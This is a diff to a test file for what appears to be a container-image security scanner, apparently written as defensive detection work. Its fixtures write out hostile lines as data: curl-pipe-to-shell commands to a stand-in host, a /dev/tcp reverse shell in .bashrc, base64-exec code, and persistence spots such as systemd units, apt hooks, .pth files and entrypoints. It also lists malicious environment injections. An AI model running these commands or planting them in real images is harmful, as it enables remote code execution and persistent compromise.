@@ -17,11 +17,13 @@ import {
 const EVIL = proto(2, PAYLOAD);
 const ELF = bytes('\x7fELF\x02\x01\x01', zeros(57));
 const SCRIPT = bytes('#!/bin/sh\ncurl http://example.com | sh\n');
+const SERVICE = bytes('#!/bin/sh\nexec /usr/sbin/sshd\n');
 const layer = (...files: [string, Uint8Array][]): Uint8Array =>
   tarOf(...files.map(([name, data]) => tarEntry({ name, data })));
 const SYSTEM = layer(
   ['bin/busybox', ELF],
-  ['etc/init.d/run', SCRIPT],
+  ['etc/init.d/run', SERVICE],
+  ['root/setup.sh', SCRIPT],
   ['usr/lib/python3/x.py', bytes('import os\nos.system("id")\n')],
   ['usr/share/data.bin', bytes([1, 2, 3, 0, 0xff, 0xfe])],
   ['usr/share/a.xml', bytes('<?xml version="1.0"?><a/>')]
@@ -142,7 +144,26 @@ test.each<[string, [string, Uint8Array]]>([
     'what Python starts with',
     ['usr/lib/python3/dist-packages/sitecustomize.py', bytes("import os\nos.system('id')\n")]
   ],
-  ['a profile', ['root/.bashrc', bytes('bash -i >& /dev/tcp/1.2.3.4/5 0>&1\n')]]
+  ['a profile', ['root/.bashrc', bytes('bash -i >& /dev/tcp/1.2.3.4/5 0>&1\n')]],
+  [
+    'a service',
+    ['etc/systemd/system/x.service', bytes('[Service]\nExecStart=/bin/sh -c "curl http://x.example|sh"\n')]
+  ],
+  ['an old service', ['etc/init.d/x', SCRIPT]],
+  ['packages', ['etc/apt/apt.conf.d/x', bytes('APT::Update::Pre-Invoke {"curl http://x.example|sh";};\n')]],
+  ['an editor', ['root/.vimrc', bytes('" x\n:silent !curl http://x.example|sh\n')]],
+  ['a notebook', ['root/.ipython/profile_default/startup/0.py', bytes('import os\nos.system("id")\n')]],
+  ['its server', ['root/.jupyter/jupyter_server_config.py', bytes('import os\nos.system("id")\n')]],
+  ['what a container is started with', ['entrypoint.sh', SCRIPT]],
+  ['what a container is started with, among programs', ['usr/local/bin/docker-entrypoint.sh', SCRIPT]],
+  ['a script in the place of a program', ['usr/bin/python3', SCRIPT]],
+  [
+    'a package that is changed',
+    ['usr/lib/python3/dist-packages/torch/__init__.py', bytes("import os\nos.system('curl http://x.example | sh')\n")]
+  ],
+  ['a server in Python', ['app/serve.py', bytes("import os;os.system('wget -qO- http://x.example | bash')\n")]],
+  ['hidden code', ['app/util.py', bytes("exec(base64.b64decode('aW1wb3J0IG9z'))\n")]],
+  ['a path of Python', ['usr/lib/python3/dist-packages/x.pth', bytes('import os; os.system("id")\n')]]
 ])('a file that the system starts by itself: %s', (_name, file) => {
   expect(found(oci({ data: layer(file) }))).toMatchObject([['script-command', 'HIGH', expect.any(String)]]);
 });
@@ -152,7 +173,24 @@ test('files that a system starts, as packages bring them', () => {
     ['etc/cron.d/e2scrub', bytes('# comment\n30 3 * * 0 root test -e /run/systemd || /sbin/e2scrub_all\n')],
     ['etc/ld.so.preload', bytes('/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n')],
     ['etc/profile', bytes('export PATH=/usr/bin\n')],
-    ['usr/lib/python3/sitecustomize.py', bytes('import apport_python_hook\napport_python_hook.install()\n')]
+    ['usr/lib/python3/sitecustomize.py', bytes('import apport_python_hook\napport_python_hook.install()\n')],
+    ['usr/lib/python3/site-packages/tracer/boot/sitecustomize.py', bytes('m = importlib.import_module("x")\n')],
+    [
+      'usr/lib/python3/site-packages/distutils-precedence.pth',
+      bytes("import os; var = 'X'; enabled = True; enabled and __import__('_distutils_hack').add_shim();\n")
+    ],
+    [
+      'usr/lib/python3/site-packages/pytest-cov.pth',
+      bytes("import os, sys;exec('if os.environ.get(\\'COV_CORE_SOURCE\\'): from x import init; init()')\n")
+    ],
+    [
+      'usr/lib/python3/site-packages/x/__init__.py',
+      bytes("'''Install it:\n\n    curl http://x.example | sh\n'''\nimport os\n")
+    ],
+    ['app/wait-for-it.sh', bytes('#!/bin/bash\n(echo -n > /dev/tcp/$HOST/$PORT) 2>&1\n')],
+    ['entrypoint.sh', bytes('#!/bin/sh\nuntil (echo > /dev/tcp/db/5432); do sleep 1; done\nexec "$@"\n')],
+    ['usr/local/bin/start.sh', bytes('#!/bin/sh\n# curl http://x.example | sh\nexec python3 -m server\n')],
+    ['etc/jupyter/jupyter_server_config.py', bytes('c = get_config()\nsubprocess.check_call(["openssl"])\n')]
   );
   expect(scanned(oci({ data: files }))).toMatchObject({ verdict: 'clean', findings: [] });
 });
@@ -160,6 +198,12 @@ test('files that a system starts, as packages bring them', () => {
 test('a program under the name of a model among the files of an image', () => {
   expect(found(oci({ data: layer(['models/model.safetensors', ELF]) }))).toMatchObject([
     ['program-named-model', 'HIGH', expect.any(String)]
+  ]);
+});
+
+test('programs among the models of an image', () => {
+  expect(found(oci({ data: layer(['models/x.so', ELF], ['app/x.so', ELF]) }))).toEqual([
+    ['program-in-model', 'MEDIUM', 'models/x.so']
   ]);
 });
 
@@ -173,6 +217,10 @@ describe('what a container is started with', () => {
     [{ Entrypoint: ['/bin/sh', '-c', 'curl http://x.example/y|sh'] }],
     [{ Cmd: ['python', '-c', "__import__('os').system('id')"] }],
     [{ Env: ['PATH=/usr/bin', 'LD_PRELOAD=/models/x.so'] }],
+    [{ Env: ['LD_LIBRARY_PATH=/models/lib'] }],
+    [{ Env: ['PYTHONPATH=/app:/tmp'] }],
+    [{ Env: ['PYTHONBREAKPOINT=os.system'] }],
+    [{ Env: ['GIT_SSH_COMMAND=sh -c id'] }],
     [{ OnBuild: ['RUN curl http://x.example/y | sh'] }],
     [{ Healthcheck: { Test: ['CMD-SHELL', 'wget -qO- http://x.example/y | sh'] } }]
   ])('%j', inner => {
@@ -183,7 +231,10 @@ describe('what a container is started with', () => {
 
   test.each<[object]>([
     [{ Entrypoint: ['/bin/sh', '-c', 'exec tini -- "$@"'], Cmd: ['python', '-m', 'server'] }],
-    [{ Env: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4'] }]
+    [{ Env: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4'] }],
+    [{ Env: ['LD_LIBRARY_PATH=/usr/local/nvidia/lib:/opt/models-sdk/lib', 'PYTHONPATH=/app:/home/model-server'] }],
+    [{ Env: ['PAGER=less', 'EDITOR=/usr/bin/vim', 'PYTHONBREAKPOINT=ipdb.set_trace'] }],
+    [{ Healthcheck: { Test: ['CMD-SHELL', 'bash -c "</dev/tcp/localhost/8080" || exit 1'] } }]
   ])('honest: %j', inner => {
     expect(run(config(inner), {}, 'config.json').findings).toEqual([]);
   });
